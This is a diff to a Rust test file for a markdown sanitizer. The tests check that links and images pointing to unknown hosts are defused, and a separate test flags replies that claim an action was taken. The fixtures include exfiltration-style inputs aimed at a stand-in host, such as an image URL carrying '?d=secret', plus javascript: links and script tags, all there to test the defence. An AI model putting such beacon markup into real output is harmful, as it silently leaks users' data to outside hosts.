@@ -14,7 +14,10 @@ fn tamed(text: &str) -> String {
 #[test]
 fn links_lead_to_known_hosts_only() {
     for (text, expected) in [
-        ("See [the portal](https://portal.example.com/x).", "See [the portal](https://portal.example.com/x)."),
+        (
+            "See [the portal](https://portal.example.com/x).",
+            "See [the portal](https://portal.example.com/x).",
+        ),
         ("<https://portal.example.com/x>", "<https://portal.example.com/x>"),
         ("https://portal.example.com/x", "https://portal.example.com/x"),
         ("[click](https://evil.example/?d=1)", "click (`https://evil.example/?d=1`)"),
@@ -22,6 +25,10 @@ fn links_lead_to_known_hosts_only() {
         ("go to https://evil.example/x now", "go to `https://evil.example/x` now"),
         ("go to evil.example now", "go to `evil.example` now"),
         ("[a](javascript:alert(1))", "a"),
+        (
+            "[<https://evil.example>](https://portal.example.com/)",
+            "[`https://evil.example`](https://portal.example.com/)",
+        ),
         ("[a](/relative)", "a"),
         ("[a](https://portal.example.com@evil.example/)", "a (`https://portal.example.com@evil.example/`)"),
         ("[a][b]\n\n[b]: https://evil.example/z", "a (`https://evil.example/z`)"),
@@ -51,8 +58,12 @@ fn addresses_in_disguise_are_found() {
 fn pictures_and_html_lose_their_power() {
     for (text, expected) in [
         ("![a chart](https://evil.example/p.png?d=secret)", "a chart"),
-        ("[![x](https://evil.example/p.png)](https://portal.example.com/)", "[x](https://portal.example.com/)"),
+        (
+            "[![x](https://evil.example/p.png)](https://portal.example.com/)",
+            "[x](https://portal.example.com/)",
+        ),
         ("![a][b]\n\n[b]: https://evil.example/z", "a"),
+        ("://*://`[b]: https://evil.example", "`://`*`://`\\`[b]: `https://evil.example`"),
         ("Enter \\\\server\\<name>", "Enter \\\\server\\<name>"),
         ("press <b>this</b>", "press \\<b>this\\</b>"),
         ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
@@ -101,10 +112,20 @@ fn a_cut_text_ends_with_a_sentence() {
 /// T20.
 #[test]
 fn t20_a_promise_is_noticed() {
-    for text in ["I'm connecting you now.", "I’ve notified the team", "Ich verbinde Sie mit der Technik", "He creado un ticket"] {
+    for text in [
+        "I'm connecting you now.",
+        "I’ve notified the team",
+        "Ich verbinde Sie mit der Technik",
+        "He creado un ticket",
+    ] {
         assert!(claims_an_act(text), "{text}");
     }
-    for text in ["Connect the cable.", "A technician can help you.", "Verbinden Sie das Kabel.", "Shall I connect you?"] {
+    for text in [
+        "Connect the cable.",
+        "A technician can help you.",
+        "Verbinden Sie das Kabel.",
+        "Shall I connect you?",
+    ] {
         assert!(!claims_an_act(text), "{text}");
     }
 }
@@ -140,17 +161,48 @@ fn loose(text: &str, hosts: &Hosts) -> Vec<String> {
 
 fn any_markdown() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
-        Just("![a](https://evil.example/p.png)"), Just("[b](https://evil.example)"), Just("[c](https://portal.example.com/)"),
-        Just("<https://evil.example>"), Just("https://evil.example/x"), Just("<img src=x>"), Just("<div>"), Just("\n\n"), Just("\n"),
-        Just("["), Just("]"), Just("("), Just(")"), Just("!"), Just("`"), Just("```"), Just("*"), Just("**"), Just("_"), Just("\\"),
-        Just("&#58;"), Just("&lt;"), Just("://"), Just("evil.example"), Just("@everyone"), Just("<@U1>"), Just("> "), Just("- "),
-        Just("1. "), Just("    "), Just(" "), Just("[b]: https://evil.example"), Just("# "), Just("a"), Just("é"), Just("\u{202E}"),
+        Just("![a](https://evil.example/p.png)"),
+        Just("[b](https://evil.example)"),
+        Just("[c](https://portal.example.com/)"),
+        Just("<https://evil.example>"),
+        Just("https://evil.example/x"),
+        Just("<img src=x>"),
+        Just("<div>"),
+        Just("\n\n"),
+        Just("\n"),
+        Just("["),
+        Just("]"),
+        Just("("),
+        Just(")"),
+        Just("!"),
+        Just("`"),
+        Just("```"),
+        Just("*"),
+        Just("**"),
+        Just("_"),
+        Just("\\"),
+        Just("&#58;"),
+        Just("&lt;"),
+        Just("://"),
+        Just("evil.example"),
+        Just("@everyone"),
+        Just("<@U1>"),
+        Just("> "),
+        Just("- "),
+        Just("1. "),
+        Just("    "),
+        Just(" "),
+        Just("[b]: https://evil.example"),
+        Just("# "),
+        Just("a"),
+        Just("é"),
+        Just("\u{202E}"),
     ];
     prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]
+    #![proptest_config(ProptestConfig { cases: 250_000, failure_persistence: None, ..ProptestConfig::default() })]
 
     #[test]
     fn nothing_loose_is_left(text in any_markdown()) {
